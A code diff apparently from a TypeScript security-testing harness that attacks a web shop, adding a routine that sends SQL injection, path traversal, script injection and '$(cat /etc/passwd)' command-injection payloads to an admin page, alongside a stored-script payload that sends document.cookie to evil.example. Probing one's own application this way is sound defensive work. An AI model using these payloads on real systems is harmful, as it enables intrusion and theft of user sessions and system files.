@@ -17,6 +17,7 @@ export async function attack(origin: string, tally: Tally, loot: Loot): Promise<
 
   await forgeForms(victim, tally)
   await injectSql(createBrowser(origin, '203.0.113.66'), tally)
+  await injectIntoAdmin(createBrowser(origin, '203.0.113.67'), tally)
   await plantScripts(victim, tally, product)
   await guessPasswords(createBrowser(origin, '203.0.113.66'), tally, loot)
   if (loot.webhook) await replayWebhook(origin, tally, loot.webhook)
@@ -45,6 +46,11 @@ async function injectSql(browser: Browser, tally: Tally): Promise<void> {
     }
 }
 
+async function injectIntoAdmin(browser: Browser, tally: Tally): Promise<void> {
+  for (const payload of ["' or '1'='1' --", '../../etc/passwd', '<script>alert(1)</script>', '$(cat /etc/passwd)'])
+    note(tally, 'attack on the admin', await browser.get(`/admin?customer=${encodeURIComponent(payload)}`))
+}
+
 async function plantScripts(victim: Browser, tally: Tally, product: string): Promise<void> {
   const payloads = [
     '<script>fetch("//evil.example?"+document.cookie)</script>',
@@ -55,7 +61,7 @@ async function plantScripts(victim: Browser, tally: Tally, product: string): Pro
   for (const payload of payloads) {
     const sent = await victim.post(`${product}/reviews`, { rating: '5', title: 'Nice', body: payload })
     const page = await victim.get(product)
-    note(tally, 'script in a review', sent, page.text.includes(payload) ? 'SHOWN AS MARKUP' : 'shown as harmless text')
+    note(tally, 'script in a review', sent, page.text.includes(payload) ? 'SHOWN AS MARKUP' : 'kept without the script')
   }
 }
 
